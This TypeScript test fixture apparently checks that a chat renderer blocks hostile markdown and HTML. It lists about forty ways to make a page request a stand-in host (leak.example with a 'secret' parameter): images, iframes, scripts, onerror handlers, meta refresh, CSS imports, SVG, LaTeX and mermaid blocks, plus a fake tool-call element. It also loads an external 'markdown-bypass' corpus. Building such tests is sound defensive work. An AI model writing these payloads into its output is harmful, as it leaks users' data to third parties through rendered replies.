import { existsSync, readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'

const folder = join(import.meta.dirname, '../../../shared/corpora/markdown-bypass')
const names = existsSync(folder) ? readdirSync(folder).filter((name) => name.endsWith('.md')) : []

/** Why there are no others than our own, or nothing. */
export const missingCorpus = names.length === 0 ? `the bypass corpus is not at ${folder}` : undefined

const leak = 'https://leak.example/p?d=secret'

/** What the public corpus lacks: every way to a request that we know of, as a model might be told to write it. */
const own: Readonly<Record<string, string>> = {
  image: `![a](${leak})`,
  'image by reference': `![a][b]\n\n[b]: ${leak}`,
  'image in a link': `[![a](${leak})](${leak})`,
  'image in a table': `|a|\n|-|\n|![a](${leak})|`,
  'image in a heading': `# ![a](${leak})`,
  'image in a footnote': `a[^1]\n\n[^1]: ![a](${leak})`,
  'image without a scheme': '![a](//leak.example/p)',
  'image half written': `![a](${leak}`,
  autolink: `<${leak}> ${leak} www.leak.example`,
  picture: `<picture><source srcset="${leak}"><img src=x></picture>`,
  srcset: `<img srcset="${leak} 1x">`,
  'lazy image': `<img loading=eager src="${leak}">`,
  poster: `<video poster="${leak}" src="${leak}" autoplay></video>`,
  audio: `<audio src="${leak}" autoplay></audio>`,
  track: `<video><track default src="${leak}"></video>`,
  background: `<table background="${leak}"><tr><td background="${leak}">a</td></tr></table>`,
  style: `<p style="background:url(${leak})">a</p>`,
  'style element': `<style>@import "${leak}"; body { background: url(${leak}) }</style>`,
  'style sheet': `<link rel="stylesheet" href="${leak}">`,
  prefetch: `<link rel="prefetch" href="${leak}"><link rel="dns-prefetch" href="${leak}">`,
  preconnect: `<link rel="preconnect" href="${leak}"><link rel="preload" as="image" href="${leak}">`,
  icon: `<link rel="icon" href="${leak}">`,
  manifest: `<link rel="manifest" href="${leak}">`,
  frame: `<iframe src="${leak}"></iframe><iframe srcdoc="<img src='${leak}'>"></iframe>`,
  object: `<object data="${leak}"></object><embed src="${leak}">`,
  applet: `<applet code="${leak}"></applet>`,
  script: `<script src="${leak}"></script><script>fetch("${leak}")</script>`,
  module: `<link rel="modulepreload" href="${leak}">`,
  base: `<base href="${leak}">`,
  refresh: `<meta http-equiv="refresh" content="0;url=${leak}">`,
  form: `<form action="${leak}"><button autofocus>a</button></form><input type="image" src="${leak}">`,
  ping: `<a href="#" ping="${leak}">a</a>`,
  longdesc: `<img longdesc="${leak}" src=x>`,
  svg: `<svg><image href="${leak}"/><use href="${leak}#a"/><feImage href="${leak}"/></svg>`,
  'svg script': `<svg onload="fetch('${leak}')"><script href="${leak}"/></svg>`,
  math: `<math><mi xlink:href="${leak}">a</mi></math>`,
  handlers: `<img src=x onerror="fetch('${leak}')"><details open ontoggle="fetch('${leak}')">`,
  'speculation rules': `<script type="speculationrules">{"prefetch":[{"urls":["${leak}"]}]}</script>`,
  'formula with a picture': `$\\includegraphics{${leak}}$ and $$\\href{${leak}}{x} \\htmlStyle{background:url(${leak})}{y}$$`,
  'code that is drawn elsewhere': `\`\`\`svg\n<svg><image href="${leak}"/></svg>\n\`\`\`\n\n\`\`\`mermaid\ngraph LR; A[<img src='${leak}'>]\n\`\`\``,
  'a tool call that is none': `<details type="tool_calls" open><summary>web_search</summary></details>`,
}

export interface HostileText {
  name: string
  text: string
}

/** Texts that try to make a page ask somebody for something. */
export const hostileMarkdown: readonly HostileText[] = [
  ...Object.entries(own).map(([name, text]) => ({ name, text })),
  ...names.map((name) => ({ name, text: readFileSync(join(folder, name), 'utf8') })),
]
